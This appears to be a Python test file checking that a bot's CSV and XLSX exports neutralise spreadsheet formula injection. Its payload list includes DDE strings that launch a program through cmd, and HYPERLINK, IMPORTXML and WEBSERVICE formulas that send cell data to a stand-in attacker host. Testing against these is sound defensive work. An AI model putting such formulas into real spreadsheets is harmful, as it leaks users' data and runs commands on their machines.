"""Exports contain text only: no spreadsheet evaluates anything."""

import csv
import io
import sys
import unicodedata
import zipfile

import pytest

from bot.web.spreadsheets import as_file, safe_cell
from notifications.text_splitting import printable

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example?x="&A1,"点我")',
    '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+DDE(1;2;3)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "﹢1+1",
    "﹣1+1",
    "﹫SUM(1)",
    "−1+1",
    "\u200b\ufeff \u00a0=1+1",
    "\u034f=1+1",
    "\ufe0f=1+1",
    "\u202e=1+1",
    "\x00=1+1",
]
_BLANK_LETTERS = "\u115f\u1160\u2800\u3164\uffa0"
BREAK_OUTS = ["厂;=1+1", "厂\t=1+1", '厂"\n=1+1', '","=1+1', "厂\r=1+1", "厂|=1+1"]


def exported(form: str, *cells: str) -> bytes:
    body = as_file(form, "名录", ["企业名称"], [[cell] for cell in cells]).body
    assert isinstance(body, bytes)
    return body


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_no_cell_starts_like_a_formula(payload: str) -> None:
    assert safe_cell(payload) == "'" + printable(payload)


def test_nothing_that_cannot_be_seen_hides_a_formula() -> None:
    """Every space, separator, control and format character there is, and the letters that are blank."""
    kinds = ("Zs", "Zl", "Zp", "Cc", "Cf")
    every = map(chr, range(sys.maxunicode + 1))
    unseen = [sign for sign in every if unicodedata.category(sign) in kinds] + list(_BLANK_LETTERS)
    assert {"\u00a0", "\u200b", "\ufeff", "\u2060", "\u3000", "\u00ad"} <= set(unseen)
    assert [hex(ord(sign)) for sign in unseen if not safe_cell(f"{sign}=1+1").startswith("'")] == []
    assert [hex(ord(sign)) for sign in unseen if not safe_cell(f"{sign} {sign}@SUM(1)").startswith("'")] == []


@pytest.mark.parametrize(
    "words", ["", "南京云杼传感科技有限公司", "A-1", "2026年度", " 前有空格", "a=b", "91320115MADEM1014U"]
)
def test_plain_words_stay_as_they_are(words: str) -> None:
    assert safe_cell(words) == words


def test_a_csv_holds_each_payload_as_one_quoted_cell() -> None:
    text = exported("csv", *PAYLOADS, *BREAK_OUTS).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["企业名称"], *[["'" + printable(one)] for one in PAYLOADS], *[[one] for one in BREAK_OUTS]]
    # Also with programs that split cells at another character, nothing is evaluated.
    for sign in (";", "\t", "|"):
        cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=sign) for cell in row]
        assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []


def test_a_workbook_holds_text_only() -> None:
    made = exported("xlsx", *PAYLOADS)
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet
        assert b"hyperlink" not in sheet
        assert sheet.count(b't="inlineStr"') == len(PAYLOADS) + 1
